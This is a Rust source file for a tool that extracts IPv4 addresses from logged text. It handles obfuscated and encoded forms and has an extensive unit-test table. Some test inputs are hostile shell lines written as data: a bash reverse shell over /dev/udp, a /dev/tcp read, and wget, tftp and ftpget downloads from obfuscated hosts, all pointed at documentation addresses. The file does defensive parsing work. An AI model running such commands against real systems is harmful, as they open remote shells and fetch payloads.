//! IPv4 addresses: four decimal numbers, strictly, and neither a version, nor a network, nor a piece of something longer.
use super::{Context, Extractor, Found, Needs, Text};
use crate::events::Field;
use std::net::Ipv4Addr;
use std::ops::Range;

pub(super) struct Addresses;

impl Extractor for Addresses {
    fn fields(&self) -> &'static [Field] {
        &[Field::Ipv4]
    }

    fn needs(&self) -> &'static Needs {
        const NEEDS: Needs = Needs::NOTHING.one_of(b".").digits(4);
        &NEEDS
    }

    fn extract(&self, text: &Text<'_>, found: &mut Found) {
        for candidate in Candidates::of(text) {
            let range = candidate.range;
            found.add(Field::Ipv4, &candidate.address.to_string(), text, range);
            if found.is_full() {
                return;
            }
        }
    }
}

/// An address where it stands.
pub(super) struct Candidate {
    pub range: Range<usize>,
    pub address: Ipv4Addr,
    /// It follows `/dev/tcp/`: what comes behind it is a port and no path.
    pub is_device: bool,
}

/// The addresses of a text, from left to right.
pub(super) struct Candidates<'a> {
    text: &'a Text<'a>,
    at: usize,
}

impl<'a> Candidates<'a> {
    pub fn of(text: &'a Text<'a>) -> Candidates<'a> {
        Candidates { text, at: 0 }
    }
}

impl Iterator for Candidates<'_> {
    type Item = Candidate;

    fn next(&mut self) -> Option<Candidate> {
        let bytes = self.text.plain.as_bytes();
        loop {
            let dot = self.at + memchr::memchr(b'.', &bytes[self.at..])?;
            let is_part = |byte: &u8| byte.is_ascii_digit() || *byte == b'.';
            // Up to the last dot everything was looked at: digits before this one belong to it alone, and more than three are too many.
            let mut start = dot;
            while start > self.at && dot - start < 4 && bytes[start - 1].is_ascii_digit() {
                start -= 1;
            }
            let end = dot + bytes[dot..].iter().position(|byte| !is_part(byte)).unwrap_or(bytes.len() - dot);
            self.at = end;
            let mut number_end = end;
            while number_end > start && bytes[number_end - 1] == b'.' {
                number_end -= 1;
            }
            if let Some(address) = strict(&bytes[start..number_end])
                && let Some(is_device) = stands_alone(self.text, start, number_end, end)
                && (self.text.context == Context::Address || is_worth_knowing(address))
            {
                return Some(Candidate { range: start..number_end, address, is_device });
            }
        }
    }
}

/// Four numbers up to 255 without leading zeros.
pub(super) fn strict(bytes: &[u8]) -> Option<Ipv4Addr> {
    if !(7..=15).contains(&bytes.len()) {
        return None;
    }
    let mut octets = [0; 4];
    let mut parts = bytes.split(|&byte| byte == b'.');
    for octet in &mut octets {
        let part = parts.next()?;
        if part.is_empty() || part.len() > 3 || (part[0] == b'0' && part.len() > 1) || !part.iter().all(u8::is_ascii_digit) {
            return None;
        }
        *octet = u8::try_from(part.iter().fold(0_u16, |value, digit| value * 10 + u16::from(digit - b'0'))).ok()?;
    }
    parts.next().is_none().then(|| octets.into())
}

/// Netmasks, and the address that means any or none.
fn is_worth_knowing(address: Ipv4Addr) -> bool {
    address.octets()[0] != 255 && !address.is_unspecified()
}

/// Whether the number is an address by what stands around it; if so, whether a device of the shell leads to it.
fn stands_alone(text: &Text<'_>, start: usize, number_end: usize, end: usize) -> Option<bool> {
    let bytes = text.plain.as_bytes();
    let before = before(text.plain, start);
    let mut is_device = false;
    // `_1.2.3.4_22`: scanners sign with what they scan.
    let in_underscores = before == '_' && bytes.get(end) == Some(&b'_') && bytes.get(end + 1).is_some_and(u8::is_ascii_digit);
    match before {
        '_' if !in_underscores => return None,
        '/' => {
            is_device = bytes[..start].ends_with(b"/dev/tcp/") || bytes[..start].ends_with(b"/dev/udp/");
            let product = start >= 2 && (bytes[start - 2].is_ascii_alphanumeric() || matches!(bytes[start - 2], b'_' | b'-' | b'.' | b'}'));
            if product && !is_device {
                return None;
            }
        }
        '-' => {
            let window = &bytes[start.saturating_sub(16)..start - 1];
            let number = &window[window.iter().rposition(|&byte| !(byte.is_ascii_digit() || byte == b'.')).map_or(0, |at| at + 1)..];
            let in_names = start >= 2 && bytes[start - 2].is_ascii_alphanumeric();
            if in_names && strict(number).is_none() {
                return None;
            }
        }
        '.' | '$' | '#' => return None,
        before if before.is_alphanumeric() && !follows_percent(bytes, start) => return None,
        _ => {}
    }
    if follows_version(bytes, start) {
        return None;
    }
    let after = text.plain[end..].chars().next().unwrap_or(' ');
    match after {
        '_' if !in_underscores => return None,
        after if end > number_end && (after.is_alphanumeric() || after == '-' || after == '_') => return None,
        '-' => {
            let window = &bytes[end + 1..bytes.len().min(end + 17)];
            let length = window.iter().position(|&byte| !(byte.is_ascii_digit() || byte == b'.')).unwrap_or(window.len());
            let goes_on = window.first().is_some_and(u8::is_ascii_alphanumeric);
            // A range: two addresses, or an address and its last number.
            if goes_on && (length == 0 || window.get(length).is_some_and(u8::is_ascii_alphanumeric)) {
                return None;
            }
        }
        '/' if end == number_end && !is_device && is_network(&bytes[end + 1..]) => return None,
        after if after.is_ascii_alphanumeric() || (after.is_alphanumeric() && !is_unspaced(after)) => return None,
        _ => {}
    }
    Some(is_device)
}

/// Letters of scripts that put no blank between words and addresses.
fn is_unspaced(char: char) -> bool {
    char >= '\u{2e80}'
}

fn before(text: &str, at: usize) -> char {
    match text[..at].chars().next_back() {
        Some(char) if is_unspaced(char) => ' ',
        char => char.unwrap_or(' '),
    }
}

/// `%2F1.2.3.4`: the digits before are no part of it.
pub(super) fn follows_percent(bytes: &[u8], at: usize) -> bool {
    at >= 3 && bytes[at - 3] == b'%' && bytes[at - 2..at].iter().all(u8::is_ascii_hexdigit)
}

/// `/24` and `/255.255.255.0`, with nothing behind that makes it a path.
fn is_network(rest: &[u8]) -> bool {
    let window = &rest[..rest.len().min(16)];
    let length = window.iter().position(|&byte| !(byte.is_ascii_digit() || byte == b'.')).unwrap_or(window.len());
    let number = window[..length].trim_ascii();
    let number = number.strip_suffix(b".").unwrap_or(number);
    let follows = window.get(length);
    // `&` behind a word of a command only ends it.
    let goes_on = window.get(length + 1).is_some_and(u8::is_ascii_alphanumeric);
    let is_path = follows.is_some_and(|byte| match byte {
        b'&' | b'?' => goes_on,
        byte => byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'-' | b'_' | b'=' | b'%' | b'.'),
    });
    let is_prefix =
        (1..=2).contains(&number.len()) && number.iter().all(u8::is_ascii_digit) && (number.len() < 2 || number <= b"32".as_slice());
    !is_path && (is_prefix || strict(number).is_some())
}

/// `version 1.2.3.4`, `v. 1.2.3.4`, `Version: 1.2.3.4`, `rev=1.2.3.4`.
fn follows_version(bytes: &[u8], start: usize) -> bool {
    let window = &bytes[start.saturating_sub(24)..start];
    let end = window.iter().rposition(|byte| !matches!(byte, b' ' | b':' | b'=' | b'"' | b'\'' | b'.' | b'>')).map_or(0, |at| at + 1);
    let word = &window[window[..end].iter().rposition(|byte| !byte.is_ascii_alphabetic()).map_or(0, |at| at + 1)..end];
    end < window.len()
        && [b"version".as_slice(), b"ver", b"v", b"rev", b"revision", b"release", b"build", b"firmware"]
            .iter()
            .any(|known| word.eq_ignore_ascii_case(known))
}

#[cfg(test)]
mod tests {
    use super::super::tests::check;
    use super::Context::*;
    use super::*;

    #[test]
    fn addresses_are_told_from_versions_networks_and_longer_numbers() {
        check(
            Field::Ipv4,
            &[
                (Other, "192.0.2.1", &["192.0.2.1"]),
                (Other, "1.1.1.1", &["1.1.1.1"]),
                (Other, "from 192.0.2.1.", &["192.0.2.1"]),
                (Other, "(192.0.2.1)", &["192.0.2.1"]),
                (Other, "192.0.2.1, 192.0.2.2;192.0.2.3", &["192.0.2.1", "192.0.2.2", "192.0.2.3"]),
                (Other, "192.0.2.1 192.0.2.1", &["192.0.2.1"]),
                (Other, "192.0.2.1...", &["192.0.2.1"]),
                (Other, "[192.0.2.1]", &["192.0.2.1"]),
                (Other, "<b>192.0.2.1</b>", &["192.0.2.1"]),
                (Other, "{\"ip\":\"192.0.2.1\",\"port\":22}", &["192.0.2.1"]),
                (Other, "ip=192.0.2.1&x=1", &["192.0.2.1"]),
                (Other, "192.0.2.1:8080", &["192.0.2.1"]),
                (Other, "root@192.0.2.1", &["192.0.2.1"]),
                (Other, "192.0.2.1-192.0.2.9", &["192.0.2.1", "192.0.2.9"]),
                (Other, "192.0.2.1-9", &["192.0.2.1"]),
                (Other, "MGLNDD_192.0.2.1_2222", &["192.0.2.1"]),
                (Other, "CONNECT 192.0.2.1:80 HTTP/1.0", &["192.0.2.1"]),
                (Other, "http://192.0.2.1/", &["192.0.2.1"]),
                (Other, "//192.0.2.1/share", &["192.0.2.1"]),
                (Other, "192[.]0[.]2[.]1", &["192.0.2.1"]),
                (Other, "192(.)0(dot)2{.}1", &["192.0.2.1"]),
                (Other, "192[.0[.2[.1", &["192.0.2.1"]),
                (Other, "192.0.2[.]1:80/x", &["192.0.2.1"]),
                (Chat, "１９２．０．２．１", &["192.0.2.1"]),
                (Chat, "192\u{2024}0\u{2024}2\u{2024}1", &["192.0.2.1"]),
                (Chat, "192.0.\u{200b}2.1", &["192.0.2.1"]),
                (Chat, "地址192.0.2.1请", &["192.0.2.1"]),
                (Chat, "é192.0.2.1", &[]),
                (Other, "192.0.2.1.5", &[]),
                (Other, "5.192.0.2.1", &["5.192.0.2"][..0]),
                (Other, "1.1.1.1.1.1.1.1", &[]),
                (Other, "1.3.6.1.4.1.311", &[]),
                (Other, "192.0.2.256", &[]),
                (Other, "999.0.2.1", &[]),
                (Other, "192.0.02.1", &[]),
                (Other, "010.0.0.1", &[]),
                (Other, "0192.0.2.1", &[]),
                (Other, "1192.0.2.1", &[]),
                (Other, "192.0.2.1000", &[]),
                (Other, "192..0.2.1", &[]),
                (Other, ".192.0.2.1", &[]),
                (Other, "192.0.2", &[]),
                (Other, "21.11.2026", &[]),
                (Other, "12:34:56.789", &[]),
                (Other, "99999999999999999999999999.1.1.1", &[]),
                (Other, "1.1.1.99999999999999999999999999", &[]),
                (Other, "OpenSSH_1.2.3.4", &[]),
                (Other, "SSH-2.0-libssh-0.11.3.1", &[]),
                (Other, "Chrome/74.0.3729.157", &[]),
                (Other, "Chrome/74.0.37.157 Safari/1.2.3.4", &[]),
                (Other, "curl/7.1.2.3", &[]),
                (Other, "linux-2.6.32.10", &[]),
                (Other, "linux 2.6.32.10-generic", &[]),
                (Other, "v1.2.3.4", &[]),
                (Other, "version 1.2.3.4", &[]),
                (Other, "Version: 1.2.3.4", &[]),
                (Other, "rev=1.2.3.4", &[]),
                (Other, "100.20.30.0/24", &[]),
                (Other, "10.0.0.0/8, 192.0.2.1/32", &[]),
                (Other, "192.0.2.0/255.255.255.0", &[]),
                (Other, "255.255.255.0", &[]),
                (Other, "0.0.0.0:80", &[]),
                (Address, "0.0.0.0", &["0.0.0.0"]),
                (Other, "192.0.2.1abc", &[]),
                (Other, "research192.0.2.1", &[]),
                (Other, "192.0.2.1.nip.io", &[]),
                (Other, "$192.0.2.1", &[]),
                (Other, "x%2F192.0.2.1%2Fy", &["192.0.2.1"]),
                (Command, "ftpget 192.0.2.1 a b", &["192.0.2.1"]),
                (Command, "tftp -g -r x 192.0.2.1", &["192.0.2.1"]),
                (Command, "cat </dev/tcp/192.0.2.1/22", &["192.0.2.1"]),
                (Command, "bash -i >& /dev/udp/192.0.2.1/443 0>&1", &["192.0.2.1"]),
                (Command, "sh /tmp/192.0.2.1/a", &[]),
                (Command, "ssh root@192.0.2.1", &["192.0.2.1"]),
                (Command, "./sshd 192.0.2.1 198.51.100.2\t203.0.113.3", &["192.0.2.1", "198.51.100.2", "203.0.113.3"]),
                (Command, "wget http://0x7f000001/a", &["127.0.0.1"]),
                (Command, "wget http://2130706433/a", &["127.0.0.1"]),
                (Command, "wget http://0177.0.0.0x1/a", &["127.0.0.1"]),
                (Command, "wget http://1.2.3/a http://12/b", &[]),
                (Command, "echo \\x31\\x39\\x32.0.2.1", &["192.0.2.1"]),
                (Command, "echo MTkyLjAuMi4xIDE5OC41MS4xMDAuMg== | base64 -d", &["192.0.2.1", "198.51.100.2"]),
                (Hash, "", &[]),
            ],
        );
    }
}
